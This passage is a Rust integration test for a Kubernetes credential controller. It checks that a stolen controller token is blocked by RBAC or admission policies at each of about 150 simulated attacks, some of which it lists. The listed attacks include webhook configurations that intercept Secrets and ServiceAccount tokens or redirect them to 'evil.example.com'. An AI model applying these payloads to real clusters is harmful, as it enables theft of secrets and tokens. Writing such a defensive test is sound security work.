        with(json!({ "clientConfig": { "service": { "namespace": namespace, "name": name } } }))
    };
    let second =
        hook(json!({ "name": "b.acrcredential.dev", "rules": [{ "apiGroups": [""], "apiVersions": ["v1"],
        "resources": ["secrets"], "operations": ["CREATE"] }] }));
    vec![
        deny("see every Secret by the webhook", RULES, rules("", "secrets", "CREATE")),
        deny("see everything by the webhook", RULES, rules("*", "*", "*")),
        deny("see the ServiceAccounts of another group", RULES, rules("*", "serviceaccounts", "CREATE")),
        deny("see the tokens of ServiceAccounts", RULES, rules("", "serviceaccounts/token", "CREATE")),
        deny("see deletions", RULES, rules("", "serviceaccounts", "DELETE")),
        deny(
            "hide a second webhook behind the first",
            RULES,
            whole("acr-credential-webhook", json!({}), vec![hook(json!({})), second]),
        ),
        deny(
            "send it to a URL",
            SERVICE,
            with(json!({ "clientConfig": {
            "service": null, "url": "https://evil.example.com/" } })),
        ),
        deny(
            "be asked about kube-system",
            "never asked about kube-system",
            with(json!({ "namespaceSelector": null })),
        ),
        deny("send it to another Service", SERVICE, service(NAMESPACE, "evil")),
        deny("send it to another namespace", SERVICE, service("victim", "acr-credential-webhook")),
        deny(
            "give it a finalizer",
            "no finalizers",
            whole(
                "acr-credential-webhook",
                json!({ "finalizers": ["a.example.com/b"] }),
                vec![hook(json!({}))],
            ),
        ),
        attack(
            "make another configuration where RBAC lets it",
            Fence::Policy(WEBHOOK, "MutatingWebhookConfiguration acr-credential-webhook only"),
            "PATCH",
            &format!("{base}/evil"),
            whole("evil", json!({}), vec![hook(json!({}))]),
        ),
        attack(
            "delete another's configuration where RBAC lets it",
            Fence::Policy(WEBHOOK, "MutatingWebhookConfiguration acr-credential-webhook only"),
            "DELETE",
            &format!("{base}/theirs"),
            Body::None,
        ),
    ]
}

fn attacks() -> Vec<Attack> {
    [
        reads(),
        identities(),
        control(),
        other_secrets(),
        made_secrets(),
        standing_secrets(),
        if_rbac_were_wide(),
        accounts(),
        tokens(),
        bindings(),
        others(),
        webhooks(),
    ]
    .into_iter()
    .flatten()
    .collect()
}

/// Objects that the attacks are aimed at, and rights beyond `deploy/rbac.yaml` that show what the policies hold back.
const TARGETS: &str = include_str!("intruder.yaml");

async fn seed(lab: &Lab) {
    for namespace in ["victim", "elsewhere", "owner", "wide"] {
        lab.create_namespace(namespace).await;
    }
    lab.create_account("victim", "rich", &["a", "b"]).await;
    let quiet = json!({ "automountServiceAccountToken": false, "metadata": { "labels": { "team": "a" } } });
    let accounts: Api<ServiceAccount> = lab.namespaced("victim");
    accounts.patch("rich", &PatchParams::default(), &Patch::Merge(&quiet)).await.unwrap();
    lab.plane.apply(TARGETS).await.unwrap();
    lab.plane.apply_file(root().join("deploy/webhook.yaml")).await.unwrap();
    lab.bind("victim", spec(&["victim"])).await;
    let mut other = spec(&["nowhere"]);
    other["suspend"] = json!(true);
    lab.bind("acr-configuration", other).await;
    lab.until_served("victim", crate::harness::DOMAIN).await;
    lab.until("the rich account has our entry", async || {
        lab.pull_secrets("victim", "rich").await == ["a", "b", SECRET]
    })
    .await;
    lab.until("the tokens are kept", async || {
        lab.namespaced::<Secret>(NAMESPACE).get_opt("acr-credential-cache").await.unwrap().is_some()
    })
    .await;
    lab.until_fenced().await;
    lab.until_settled().await;
    lab.controller.terminate(std::time::Duration::from_secs(20)).await.unwrap();
    let marks = json!({ "metadata": { "labels": { "team": "a" }, "annotations": { "note": "theirs" } } });
    let secrets: Api<Secret> = lab.namespaced("victim");
    secrets.patch(SECRET, &PatchParams::default(), &Patch::Merge(&marks)).await.unwrap();
    let held = json!({ "metadata": { "finalizers": ["acrcredential.dev/withdraw", "example.com/theirs"] } });
    lab.bindings().patch("victim", &PatchParams::default(), &Patch::Merge(&held)).await.unwrap();
}

/// What stopped a request, if it was the fence that should.
fn misses(attack: &Attack, (code, said): &(u16, String)) -> bool {
    match attack.fence {
        Fence::Rbac => *code != 403 || !(said.contains("cannot") && said.contains(CONTROLLER)),
        Fence::Policy(policy, words) => {
            !matches!(code, 403 | 422)
                || !said.contains(&format!("ValidatingAdmissionPolicy '{policy}'"))
                || !said.contains(words)
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_stolen_token_is_stopped_at_each_attack_by_the_fence_that_should_stop_it() {
    let lab = Lab::start().await;
    seed(&lab).await;
    let thief = Caller::new(&lab.plane.service_account_kubeconfig(NAMESPACE, CONTROLLER).await.unwrap());
    let admin = Caller::new(&lab.plane.service_account_kubeconfig("default", "administrator").await.unwrap());
    let attacks = attacks();
    let last = attacks.last().unwrap();
    lab.until("the policy of the webhook is in force", async || {
        !misses(last, &thief.send(&last.call, true).await)
    })
    .await;

    let mut failures = Vec::new();
    for attack in &attacks {
        let answer = thief.send(&attack.call, false).await;
        if misses(attack, &answer) {
            failures.push(format!(
                "{}: should be stopped by {:?}, was answered {answer:?}",
                attack.what, attack.fence
            ));
        }
    }

    // What RBAC stops, an administrator may do; nobody else is fenced.
    for attack in attacks.iter().filter(|attack| matches!(attack.fence, Fence::Rbac)) {
        let (code, said) = admin.send(&attack.call, true).await;
        // There are no nodes, so a Pod has no host yet and a node is not there; and a replacement names what it replaces.
        let reaches = code < 300
            || attack.call.path.contains("/exec?")
            || attack.call.path.contains("/proxy/")
            || said.contains("metadata.resourceVersion");
        if !reaches || code == 403 {
            failures
                .push(format!("{}: is no attack, an administrator was answered {code} {said}", attack.what));
        }
    }
    // What a policy stops would succeed without it, and what RBAC stops would not.
    for file in ["deploy/policies.yaml", "deploy/webhook.yaml"] {
        lab.plane.kubectl_ok(&["delete", "-f", root().join(file).to_str().unwrap()]).await.unwrap();
    }
    let policies = [SECRETS, ACCOUNTS, BINDINGS, EVENTS, OBJECTS, WEBHOOK];
    for policy in policies {
        let of = |attack: &&Attack| matches!(attack.fence, Fence::Policy(name, _) if name == policy);
        let first = attacks.iter().find(of).unwrap();
        lab.until("the policies are gone", async || thief.send(&first.call, true).await.0 < 300).await;
    }
    let (mut by_policy, mut by_rbac) = (0, 0);
    for attack in &attacks {
        let answer = thief.send(&attack.call, true).await;
        match attack.fence {
            Fence::Rbac if misses(attack, &answer) => {
                failures.push(format!("{}: RBAC alone does not stop it: {answer:?}", attack.what));
            }
            Fence::Rbac => by_rbac += 1,
            Fence::Policy(..) if answer.0 >= 300 => {
                failures.push(format!(
                    "{}: is no attack, without policies it was answered {answer:?}",
                    attack.what
                ));
            }
            Fence::Policy(..) => by_policy += 1,
        }
    }
    assert!(failures.is_empty(), "of {} attacks: {failures:#?}", attacks.len());
    // The READMEs tell these figures.
    assert_eq!((by_rbac, by_policy), (60, 88));
}
